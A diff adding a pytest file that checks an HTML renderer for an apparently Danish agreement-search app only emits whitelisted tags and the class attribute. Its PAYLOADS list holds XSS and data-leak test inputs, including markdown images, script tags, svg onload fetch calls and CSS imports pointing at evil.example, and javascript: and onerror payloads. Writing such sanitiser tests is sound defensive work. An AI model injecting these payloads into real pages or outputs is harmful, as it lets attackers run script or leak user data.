@@ -1,0 +1,117 @@
+from html.parser import HTMLParser
+
+import pytest
+
+from chains import Answer, AnswerKind, Citation
+from corpus.models import Agreement
+from ingest.index import Corpus
+from views.render import answer_html, passage_html, question_html, source_html
+
+_TAGS = {"div", "p", "ul", "li", "sup", "strong", "mark"}
+PAYLOADS = [
+    "![x](https://evil.example/a.png)",
+    "![x][1]\n\n[1]: https://evil.example/b.png",
+    "<img src=https://evil.example/c.png>",
+    "<script src='https://evil.example/d.js'></script>",
+    "<svg onload=fetch('https://evil.example/e')>",
+    "<iframe src='https://evil.example/f'></iframe>",
+    "<style>@import url(https://evil.example/g.css)</style>",
+    "<div style='background:url(https://evil.example/h)'>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "[klik](data:text/html;base64,PHNjcmlwdD4=)",
+    "<link rel=stylesheet href=https://evil.example/i.css>",
+    "<object data='https://evil.example/j'></object>",
+    '"><img src=x onerror=alert(1)>',
+    "**<b>fed</b>**",
+]
+
+
+class Reader(HTMLParser):
+    """Collects every tag and attribute."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: set[str] = set()
+        self.text = ""
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes |= {name for name, _ in attrs}
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+
+def answer_with(text: str) -> Answer:
+    return Answer(
+        question=text,
+        standalone_question=text,
+        kind=AnswerKind.NOT_FOUND,
+        text=f"„{text}“ [1]",
+        notes=(text,),
+        corpus_version="v",
+    )
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_nothing_in_an_answer_can_load_or_run(payload: str, reform: Agreement) -> None:
+    citation = Citation(
+        marker=1,
+        agreement_id="a",
+        agreement_title=payload,
+        section=payload,
+        passage_id="a:0-1",
+        quote=payload,
+        start=0,
+        end=len(payload),
+        agreement_version="v",
+        url=payload,
+    )
+    agreement = reform.model_copy(update={"text": payload * 3})
+    for html in (
+        question_html(payload),
+        answer_html(answer_with(payload)),
+        source_html(citation, agreement),
+    ):
+        read = Reader(html)
+        assert read.tags <= _TAGS
+        assert read.attributes <= {"class"}
+        assert payload.split("\n")[0].strip("*") in read.text
+
+
+def test_a_source_shows_the_quote_marked_in_its_context(corpus: Corpus, reform: Agreement) -> None:
+    quote = "op til 25 nærhospitaler"
+    start = reform.text.index(quote)
+    citation = Citation(
+        marker=1,
+        agreement_id=reform.id,
+        agreement_title="",
+        section="Boks 1.1",
+        passage_id="",
+        quote=quote,
+        start=start,
+        end=start + len(quote),
+        agreement_version=reform.version,
+        url="",
+    )
+    html = source_html(citation, reform)
+    assert f"til at oprette <mark>{quote}</mark>. Midlerne" in html
+
+
+def test_a_passage_shows_its_section(corpus: Corpus) -> None:
+    from corpus.models import RankedPassage
+
+    passage = corpus.passages[0]
+    ranked = RankedPassage(
+        passage_id=passage.id,
+        agreement_id=passage.agreement_id,
+        section="A › B",
+        text="x < y",
+        start=0,
+        end=5,
+        score=1.0,
+    )
+    assert "x &lt; y" in passage_html(ranked)
+    assert "A › B" in passage_html(ranked)
